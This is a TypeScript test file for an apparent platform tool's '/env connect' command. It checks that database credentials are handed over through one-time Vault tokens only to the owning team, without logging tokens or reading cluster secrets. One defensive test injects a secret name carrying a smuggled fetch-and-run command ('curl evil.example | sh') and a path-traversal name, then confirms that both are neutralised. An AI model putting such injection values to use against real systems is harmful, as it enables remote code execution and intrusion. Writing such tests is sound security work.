/** How connection details are handed over: to whom, and what never passes through Greenlight. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Person } from '../../src/core/person.ts';
import type { SecretStore } from '../../src/core/secret-store.ts';
import { connectVault } from '../../src/platforms/vault/connect.ts';
import { shippedPolicy } from '../approvals/shipped.ts';
import { dana, priya } from '../desk/desk-world.ts';
import { startVaultBox, type VaultBox, vaultSecret, vaultToken } from '../platforms/vault/vault-box.ts';
import { type Bench, benchWorld } from './bench-world.ts';

let bench: Bench;
let box: VaultBox;
beforeAll(async () => {
  box = await startVaultBox({ 'pg-1/database': vaultSecret, 'claim-1/postgres': vaultSecret });
  bench = await benchWorld();
  for (const [name, blueprint] of [
    ['pg-1', 'web-postgres'],
    ['claim-1', 'postgres-claim'],
    ['bare-1', 'namespace'],
  ]) {
    const made = await bench.finish(await bench.ask('environment.create', { name, blueprint }));
    expect(made.problem).toBeUndefined();
  }
  Object.assign(bench.context, { policy: () => shippedPolicy });
});
afterAll(async () => {
  await bench.close();
  await box.stop();
});

function withStore(store: SecretStore | undefined) {
  Object.assign(bench.context.outside, { secretStore: store });
}
const vault = () =>
  connectVault({ url: box.url, token: vaultToken, place: 'secret/environments' }, () => bench.clock.now());

async function ask(input: Record<string, unknown>, requester: Person = dana) {
  const origin = { surface: 'command' } as const;
  return bench.desk.answer({ key: 'k', action: 'environment.connect', input, requester, origin });
}

describe('/env connect', () => {
  it('gives the command that reads the details with the rights of whoever asks, for them alone', async () => {
    const answer = await ask({ name: 'pg-1' });
    expect(answer).toMatchObject({ ok: true, value: { isPersonal: true } });
    const text = JSON.stringify(answer);
    expect(text).toContain('kubectl -n env-pg-1 get secret database');
    expect(text).toContain('password');
  });

  it('says that there is nothing secret where there is nothing', async () => {
    expect(JSON.stringify(await ask({ name: 'bare-1' }))).toContain(
      'bare-1 has no connection details of its own.',
    );
  });

  it('without a secret store there is no link, and a next step', async () => {
    withStore(undefined);
    expect(await ask({ name: 'pg-1', link: true })).toMatchObject({
      ok: false,
      problem: {
        sentence: expect.stringContaining('No secret store'),
        next: expect.stringContaining('/env connect pg-1'),
      },
    });
  });

  it.each([
    ['pg-1', 'database'],
    ['claim-1', 'postgres'],
  ])('with one the link opens once what %s keeps', async (name) => {
    withStore(vault());
    const offered = await ask({ name });
    expect(JSON.stringify(offered)).toContain(`/env connect ${name} --link`);
    const answer = await ask({ name, link: true });
    if (!answer.ok) throw new Error(JSON.stringify(answer.problem));
    expect(answer.value).toMatchObject({ isPersonal: true, isSecret: true });
    const [token = ''] = /hvs\.[\w-]+/.exec(JSON.stringify(answer.value)) ?? [];
    expect(await box.unwrap(token)).toEqual(vaultSecret);
    expect(await box.unwrap(token)).toBeUndefined();
  });
});

describe('what must not happen', () => {
  it('somebody of another team is refused, on call or not, and the store is not even asked', async () => {
    withStore(vault());
    const calls = box.calls.length;
    const asked = await ask({ name: 'pg-1', link: true }, priya);
    expect(asked).toMatchObject({ ok: false, problem: { code: 'denied_by_policy' } });
    expect(JSON.stringify(asked)).toContain('only the team that owns an environment');
    expect(box.calls).toHaveLength(calls);
  });

  it('the question is recorded, and no token with it', async () => {
    withStore(vault());
    const recorded: unknown[] = [];
    const { store } = bench.context;
    const record = store.recordEvaluation.bind(store);
    Object.assign(store, {
      recordEvaluation: (evaluation: Parameters<typeof record>[0]) => {
        recorded.push(evaluation);
        return record(evaluation);
      },
    });
    const answer = await ask({ name: 'pg-1', link: true });
    expect(answer.ok).toBe(true);
    expect(recorded).toHaveLength(1);
    expect(JSON.stringify(recorded)).toContain('environment.connect');
    expect(JSON.stringify(recorded)).not.toContain('hvs.');
  });

  it('Greenlight never reads a Secret of the cluster, whatever was made and asked until now', () => {
    expect(bench.reads().filter((one) => one.includes('/secrets'))).toEqual([]);
  });

  it("a name that is no name becomes nobody's shell command, and no path in the store", async () => {
    const [request] = await bench.context.store.list({ hasLivingEnvironment: true, limit: 10 });
    const environment = request?.outputs?.environment;
    if (!environment) throw new Error('there is an environment');
    const evil = {
      ...environment,
      secrets: [
        { name: 'x; curl evil.example | sh', keys: ['a'] },
        { name: '../up', keys: ['b'] },
      ],
    };
    const list = bench.context.store.list.bind(bench.context.store);
    Object.assign(bench.context.store, {
      list: async (query: Parameters<typeof list>[0]) =>
        (await list(query)).map((one) =>
          one.id === request.id ? { ...one, outputs: { ...one.outputs, environment: evil } } : one,
        ),
    });
    expect(JSON.stringify(await ask({ name: environment.name }))).not.toContain('curl');
    const calls = box.calls.length;
    expect(await ask({ name: environment.name, link: true })).toMatchObject({ ok: false });
    expect(box.calls).toHaveLength(calls);
    Object.assign(bench.context.store, { list });
  });
});
